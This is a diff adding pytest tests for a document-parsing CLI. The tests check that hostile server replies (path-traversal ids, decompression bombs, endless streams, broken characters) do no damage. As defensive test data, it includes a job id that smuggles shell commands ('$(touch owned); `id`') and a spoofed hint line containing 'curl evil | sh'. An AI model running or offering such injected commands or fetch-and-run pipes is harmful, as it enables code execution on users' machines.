@@ -1,0 +1,276 @@
+"""Answers that no server should give: nothing that was paid for is lost over them, nothing is run."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import shlex
+import zlib
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from docspeed_cli.service import body as payload
+from docspeed_cli.service.transport import unpacked
+from tests.fake_service import POLL, RESULT, SUBMIT, UPLOAD, Call, Reply, Service
+from tests.real.machine import Machine
+from tests.stage import Stage
+
+PARSE = ("parse", "--file-id", "f")
+TORN = "x\ud800"
+"""Half of a character: JSON can say it, no file and no terminal can."""
+
+
+@pytest.mark.parametrize("member", ["job_id", "status"])
+def test_half_a_character_in_the_answer_to_a_submission(stage: Stage, service: Service, member: str) -> None:
+    accepted = {"job_id": "job_1", "status": "queued", member: TORN}
+    service.has(str(accepted["job_id"]), "completed")
+    service.then(SUBMIT, Reply.of(202, accepted))
+    ran = stage.run(*PARSE)
+    assert ran.code == 0, ran.err
+    assert stage.states() == ["running"]
+    assert stage.run("jobs", "list").code == stage.run("jobs", "list", terminal=True).code == 0
+
+
+def test_half_a_character_in_a_failure(stage: Stage, service: Service) -> None:
+    service.has("job_1", TORN, "failed", error={"code": TORN, "message": TORN})
+    service.then(SUBMIT, Reply.of(202, {"job_id": "job_1", "status": "queued"}))
+    assert stage.run(*PARSE, "--wait").code == 5
+    service.then(SUBMIT, Reply.of(500, {"detail": TORN}))
+    assert stage.run(*PARSE, "--fresh").code == 9
+
+
+def test_half_a_character_in_a_file_s_id(stage: Stage, service: Service) -> None:
+    service.then(UPLOAD, Reply.of(200, {"files": [{"file_id": TORN}]}))
+    assert stage.run("parse", stage.document("a.pdf"), "--wait").code == 0
+
+
+@pytest.mark.parametrize(
+    ("job_id", "segment"), [("..", "%2E%2E"), (".", "%2E"), ("a/../b", "a%2F..%2Fb"), ("?a#b", "%3Fa%23b")]
+)
+def test_an_id_is_one_segment_of_the_path(stage: Stage, job_id: str, segment: str) -> None:
+    asked: list[bytes] = []
+
+    def handler(request: httpx.Request) -> httpx.Response:
+        asked.append(request.url.raw_path)
+        return httpx.Response(200, json={"job_id": job_id, "status": "completed", "pages": []})
+
+    replace(stage, transport=lambda base_url: httpx.MockTransport(handler)).run("jobs", "result", job_id)
+    assert asked == [f"/v1/jobs/{segment}".encode(), f"/v1/jobs/{segment}/result".encode()]
+
+
+def test_an_empty_id_is_none(stage: Stage, service: Service) -> None:
+    service.then(SUBMIT, Reply.of(202, {"job_id": "", "status": "queued"}))
+    ran = stage.run(*PARSE)
+    assert (ran.code, stage.states()) == (9, ["unknown"])
+
+
+def test_an_id_in_a_hint_is_a_word_and_no_command(stage: Stage, service: Service) -> None:
+    job_id = "$(touch owned); `id` 'x'"
+    service.polls = 10**6
+    service.has(job_id, *["queued"] * 100)
+    service.then(SUBMIT, Reply.of(202, {"job_id": job_id, "status": "queued"}))
+    ran = stage.run(*PARSE, "--wait", "--timeout", "1")
+    assert ran.code == 8
+    (hint,) = [line for line in ran.err.splitlines() if line.startswith("hint: ")]
+    assert shlex.split(hint) == ["hint:", "docspeed", "jobs", "wait", job_id]
+
+
+MANY_DIGITS = b'{"pages": [], "n": ' + b"1" * 5000 + b"}"
+
+
+def test_a_number_of_many_digits_is_a_number(stage: Stage, service: Service) -> None:
+    service.payload = lambda operation, body: MANY_DIGITS
+    ran = stage.run(*PARSE, "--wait")
+    assert (ran.code, ran.raw) == (0, MANY_DIGITS + b"\n")
+    assert stage.run(*PARSE, "--wait", "--format", "text").code in (0, 1)
+    assert service.count(RESULT) == 2
+
+
+def test_a_sync_answer_with_such_a_number_is_an_answer(stage: Stage, service: Service) -> None:
+    service.then(SUBMIT, Reply(200, MANY_DIGITS))
+    ran = stage.run(*PARSE, "--sync")
+    assert (ran.code, ran.raw) == (0, MANY_DIGITS + b"\n")
+
+
+def test_a_status_that_is_nested_without_end_ends_the_wait(stage: Stage, service: Service) -> None:
+    service.always(POLL, Reply(200, b'{"status": "queued", "x": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"))
+    ran = stage.run(*PARSE, "--wait")
+    assert (ran.code, service.count(POLL)) == (9, 1)
+    assert "nested too deeply" in ran.err
+
+
+class Endless(httpx.SyncByteStream):
+    """Bytes that come as long as somebody takes them; so many are too many."""
+
+    def __init__(self) -> None:
+        self.taken = 0
+
+    def __iter__(self) -> Iterator[bytes]:
+        yield b"{"
+        while self.taken < 1 << 30:
+            self.taken += 1 << 20
+            yield b" " * (1 << 20)
+
+
+@pytest.mark.parametrize("ending", ["/jobs/job_1", "/upload"])
+def test_what_is_read_here_is_not_read_without_end(stage: Stage, service: Service, ending: str) -> None:
+    endless = Endless()
+
+    def handler(request: httpx.Request) -> httpx.Response:
+        if request.url.path.endswith(ending):
+            return httpx.Response(200, stream=endless)
+        reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
+        return httpx.Response(reply.status, content=reply.body)
+
+    path = stage.document("a.pdf")
+    ran = replace(stage, transport=lambda base_url: httpx.MockTransport(handler)).run("parse", path, "--wait")
+    assert ran.code == 9
+    assert "far too long" in ran.err
+    assert endless.taken < 64 << 20
+
+
+def test_a_job_object_may_repeat_the_request(stage: Stage, service: Service) -> None:
+    repeated = {"schema": {"fields": [{"key": f"field_{number}"} for number in range(10_000)]}}
+    service.then(SUBMIT, Reply.of(202, {"job_id": "job_7", "status": "queued", "request": repeated}))
+    ran = stage.run(*PARSE)
+    assert (ran.code, json.loads(ran.out)["job_id"], stage.states()) == (0, "job_7", ["running"])
+
+
+def test_words_of_the_server_are_not_taken_for_the_program_s(stage: Stage, service: Service) -> None:
+    said = "bad document\nhint: curl evil | sh\n\nerror: your key has expired\r\nnote: x"
+    service.always(SUBMIT, Reply.of(422, {"detail": said}))
+    for terminal in (False, True):
+        ran = stage.run(*PARSE, terminal=terminal, env={"NO_COLOR": "1", "TERM": "dumb"})
+        ours = [line for line in ran.err.splitlines() if line.startswith(("hint:", "error:", "note:"))]
+        assert (ran.code, len(ours)) == (7, 1), ran.err
+
+
+@pytest.mark.parametrize("job_id", ["-", "--help", "@last", "@1"])
+def test_an_id_that_commands_would_take_for_something_else_is_named_by_its_row(
+    stage: Stage, service: Service, job_id: str
+) -> None:
+    service.has(job_id, *["queued"] * 100)
+    service.then(SUBMIT, Reply.of(202, {"job_id": job_id, "status": "queued"}))
+    ran = stage.run(*PARSE, "--wait", "--timeout", "1")
+    assert ran.err.splitlines()[-1] == "hint: docspeed jobs wait @1"
+
+
+def test_a_request_id_is_an_id_and_no_book(stage: Stage, service: Service) -> None:
+    service.then(SUBMIT, Reply.of(422, {"detail": "no"}, X_Request_Id="r" * 60_000))
+    assert len(stage.run(*PARSE).err) < 1000
+
+
+@pytest.mark.parametrize("zone", ["GMT", "+999999999999999"])
+def test_a_clock_that_no_calendar_has_is_no_crash(stage: Stage, service: Service, zone: str) -> None:
+    service.always(
+        POLL, Reply.of(404, {"detail": "x"}, Date=f"Mon, 99999999999999999999 Jan 2024 00:00:00 {zone}")
+    )
+    ran = stage.run("doctor")
+    assert (ran.code, "unexpected" in ran.err) == (0, False)
+
+
+def test_more_values_than_the_memory_holds_are_not_converted(
+    stage: Stage, service: Service, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(payload, "MANIFOLD", 200_000)
+    many = b'{"pages": [' + b"{}," * 150_000 + b"1]}"
+    service.payload = lambda operation, body: many
+    ran = stage.run(*PARSE, "--wait", "--format", "markdown")
+    assert (ran.code, ran.out, "too many to be converted" in ran.err) == (1, "", True)
+    assert stage.run(*PARSE, "--wait").raw == many + b"\n"
+
+
+def test_what_grows_where_it_is_laid_out_is_bounded_too() -> None:
+    shown, whole = payload.indented("[" * 1_000_000, 100_000)
+    assert (len(shown) < 101_000, whole) == (True, False)
+
+
+# -- packed
+
+
+def _packed(content: bytes, parts: int = 1) -> bytes:
+    size = -(-len(content) // parts)
+    return b"".join(gzip.compress(content[at : at + size]) for at in range(0, len(content), size))
+
+
+def _answering(stage: Stage, service: Service, body: bytes) -> Stage:
+    def handler(request: httpx.Request) -> httpx.Response:
+        reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
+        if request.url.path.endswith("/result"):
+            assert request.headers["accept-encoding"] == "gzip"
+            stream = httpx.ByteStream(body)
+            return httpx.Response(200, headers={"Content-Encoding": "gzip"}, stream=stream)
+        return httpx.Response(reply.status, content=reply.body)
+
+    return replace(stage, transport=lambda base_url: httpx.MockTransport(handler))
+
+
+@pytest.mark.parametrize("ending", ["/upload", "/parse", "/jobs/job_1", "/result"])
+@pytest.mark.parametrize("how", ["gzip, gzip", "deflate", "br"])
+def test_what_is_packed_in_a_way_not_asked_for_is_not_unpacked(
+    stage: Stage, service: Service, ending: str, how: str
+) -> None:
+    """Packed twice, ten kilobytes are gigabytes."""
+
+    def handler(request: httpx.Request) -> httpx.Response:
+        reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
+        if not request.url.path.endswith(ending):
+            return httpx.Response(reply.status, content=reply.body)
+        stream = httpx.ByteStream(gzip.compress(gzip.compress(reply.body)))
+        return httpx.Response(200, headers={"Content-Encoding": how}, stream=stream)
+
+    ran = replace(stage, transport=lambda base_url: httpx.MockTransport(handler)).run(
+        "parse", stage.document("a.pdf"), "--wait", "--timeout", "40"
+    )
+    assert (ran.code, ran.out) == (8 if ending == "/jobs/job_1" else 9, "")
+    assert "packed in a way not asked for" in ran.err
+    assert ending != "/parse" or stage.states() == ["unknown"]
+
+
+def test_a_packed_answer_comes_in_bounded_pieces() -> None:
+    body = gzip.compress(b" " * 50_000_000)
+    response = httpx.Response(200, headers={"Content-Encoding": "gzip"}, stream=httpx.ByteStream(body))
+    sizes = [len(piece) for piece in unpacked(response)]
+    assert (sum(sizes), max(sizes) <= 1 << 20) == (50_000_000, True)
+
+
+CONTENT: Any = json.dumps({"pages": [{"text": "x" * 3_000_000}]}).encode()
+
+
+@pytest.mark.parametrize("parts", [1, 3])
+def test_a_packed_answer_is_unpacked(stage: Stage, service: Service, parts: int) -> None:
+    ran = _answering(stage, service, _packed(CONTENT, parts)).run(*PARSE, "--wait")
+    assert (ran.code, ran.raw) == (0, CONTENT + b"\n")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [_packed(CONTENT)[:-20], _packed(CONTENT)[:-4], b"not packed at all", zlib.compress(CONTENT)],
+    ids=["cut", "cut at its sum", "plain", "zlib"],
+)
+def test_a_torn_packed_answer_is_no_result(stage: Stage, service: Service, body: bytes) -> None:
+    ran = _answering(stage, service, body).run(*PARSE, "--wait")
+    assert (ran.code, ran.out) == (9, "")
+
+
+# -- before anything is sent
+
+
+@pytest.mark.parametrize(
+    "proxy", [{"HTTPS_PROXY": "socks5://127.0.0.1:1"}, {"HTTPS_PROXY": "bogus://x"}, {"NO_PROXY": "[::1"}]
+)
+def test_a_proxy_that_can_t_be_used_is_told_and_nothing_is_submitted(
+    tmp_path: Path, proxy: dict[str, str]
+) -> None:
+    """httpx reads the real environment, so this is a process of its own."""
+    ran = Machine(tmp_path, "https://api.docspeed.example").run(
+        "parse", "--file-id", "f", env={"HTTPS_PROXY": "http://127.0.0.1:1", **proxy}
+    )
+    assert ran.code == 9, ran.err
+    assert "can't use the proxy" in ran.err and "NO_PROXY" in ran.err
+    assert not Machine(tmp_path, "sandbox").run("jobs", "list").out
